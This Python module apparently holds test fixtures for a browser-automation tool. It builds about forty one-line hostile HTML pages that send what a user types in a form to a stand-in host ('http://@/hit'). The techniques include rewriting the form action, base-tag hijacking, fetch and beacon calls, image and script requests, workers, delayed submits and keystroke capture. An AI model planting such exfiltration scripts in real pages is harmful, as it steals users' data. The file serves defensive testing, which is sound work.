"""Ways in which a page sends what was typed to another site than the one that the person agreed to.

``@`` is the host that gets it. ``form`` and ``button`` are the page's own; ``value()`` is what was typed.
"""

# A page of an attack stands in one line, where it fits.
# ruff: noqa: E501

_HEAD = (
    "<form id=form method=post action=/send><label>E-mail <input id=field name=mail></label>"
    "<button id=button>Send</button></form><iframe name=inner></iframe>"
    "<script>const form = document.getElementById('form'), button = document.getElementById('button');"
    "const value = () => document.getElementById('field').value;"
    "const worker = new Worker(URL.createObjectURL(new Blob(["
    "'onmessage = (e) => fetch(`http://@/hit`, {method: `POST`, mode: `no-cors`, body: e.data})'])));"
    "%s</script>"
)


def _page(script: str) -> str:
    return _HEAD % script


def _on(event: str, script: str) -> str:
    return _page(f"button.addEventListener('{event}', (e) => {{ {script} }});")


def _submit(script: str) -> str:
    return _page(f"form.addEventListener('submit', (e) => {{ {script} }});")


def _instead(script: str) -> str:
    return _submit(f"e.preventDefault(); {script}")


def _later(script: str) -> str:
    """After the call has ended, when nobody seems to look any more."""
    return _instead(f"setTimeout(() => {{ {script} }}, 2500);")


_TO = "'http://@/hit'"
_ASKS = "'http://@/hit?v=' + value()"

#: Attacks on browser_submit.
AT_SUBMIT = {
    "action changed on submit": _submit(f"form.action = {_TO};"),
    "action changed on the move of the mouse": _on("pointermove", f"form.action = {_TO};"),
    "action changed on mouse down": _on("mousedown", f"form.action = {_TO};"),
    "action changed on click": _on("click", f"form.action = {_TO};"),
    "action of the button": _on("mousedown", f"button.formAction = {_TO};"),
    "base changed": _on(
        "mousedown",
        "form.setAttribute('action', 'hit'); const base = document.createElement('base');"
        "base.href = 'http://@/'; document.head.append(base);",
    ),
    "button of another form": _on(
        "mousedown",
        "document.body.insertAdjacentHTML('beforeend', `<form id=g method=post action=http://@/hit><input name=v></form>`);"
        "document.getElementById('g').v.value = value(); button.setAttribute('form', 'g');",
    ),
    "in a new tab": _submit(f"form.action = {_TO}; form.target = '_blank';"),
    "in a new tab without an opener": _submit(
        f"form.action = {_TO}; form.target = '_blank'; form.rel = 'noopener';"
    ),
    "in a frame": _submit(f"form.action = {_TO}; form.target = 'inner';"),
    "by get": _submit(f"form.method = 'get'; form.action = {_TO};"),
    "submitted twice": _submit(
        f"if (!form.done) {{ form.done = true; const copy = form.cloneNode(true); copy.action = {_TO};"
        "copy.target = 'inner'; document.body.append(copy); copy.mail.value = value(); HTMLFormElement.prototype.submit.call(copy); }"
    ),
    "fetch": _submit(f"fetch({_TO}, {{method: 'POST', mode: 'no-cors', body: value(), keepalive: true}});"),
    "fetch instead": _instead(f"fetch({_TO}, {{method: 'POST', mode: 'no-cors', body: value()}});"),
    "fetch by get": _instead(f"fetch({_ASKS}, {{mode: 'no-cors'}});"),
    "xhr": _instead(f"const x = new XMLHttpRequest(); x.open('POST', {_TO}); x.send(value());"),
    "beacon": _submit(f"navigator.sendBeacon({_TO}, value());"),
    "event source": _instead(f"new EventSource({_ASKS});"),
    "image": _instead(f"new Image().src = {_ASKS};"),
    "image with the value in code": _instead("new Image().src = 'http://@/hit?v=' + btoa(value());"),
    "style": _instead(f"document.body.style.background = `url(${{{_ASKS}}})`;"),
    "script": _instead(
        f"const s = document.createElement('script'); s.src = {_ASKS}; document.body.append(s);"
    ),
    "frame": _instead(f"document.querySelector('iframe').src = {_ASKS};"),
    "navigation": _instead(f"location.href = {_ASKS};"),
    "new window": _instead(f"window.open({_ASKS});"),
    "worker": _instead("worker.postMessage(value());"),
    "worker made now": _instead(
        "new Worker(URL.createObjectURL(new Blob(['fetch(`http://@/hit?v=' + value() + '`, {mode: `no-cors`})'])));"
    ),
    "form later": _later(f"form.action = {_TO}; form.submit();"),
    "form later in a new tab": _later(f"form.action = {_TO}; form.target = '_blank'; form.submit();"),
    "fetch later": _later(f"fetch({_TO}, {{method: 'POST', mode: 'no-cors', body: value()}});"),
    "navigation later": _later(f"location.href = {_ASKS};"),
    "image later": _later(f"new Image().src = {_ASKS};"),
}
#: Attacks on browser_fill: the page sends it as soon as it is typed.
AT_FILL = {
    "fetch while typing": _page(
        f"document.getElementById('field').oninput = () => fetch({_TO}, {{method: 'POST', mode: 'no-cors', body: value()}});"
    ),
    "image while typing": _page(
        f"document.getElementById('field').oninput = () => {{ new Image().src = {_ASKS}; }};"
    ),
    "form while typing": _page(
        f"document.getElementById('field').onchange = () => {{ form.action = {_TO}; form.submit(); }};"
    ),
    "navigation while typing": _page(
        f"document.getElementById('field').onchange = () => {{ location = {_ASKS}; }};"
    ),
    "new window while typing": _page(
        f"document.getElementById('field').onchange = () => {{ window.open({_ASKS}); }};"
    ),
    "navigation after typing": _page(
        f"document.getElementById('field').onchange = () => setTimeout(() => {{ location = {_ASKS}; }}, 2000);"
    ),
    "form after typing": _page(
        f"document.getElementById('field').onchange = () => setTimeout(() => {{ form.action = {_TO}; form.submit(); }}, 2000);"
    ),
    "reload and navigation after typing": _page(
        "const kept = sessionStorage.getItem('kept'); if (kept) setTimeout(() => { location = 'http://@/hit?v=' + kept; }, 2000);"
        "document.getElementById('field').onchange = () => { sessionStorage.setItem('kept', value());"
        " setTimeout(() => location.reload(), 300); };"
    ),
}
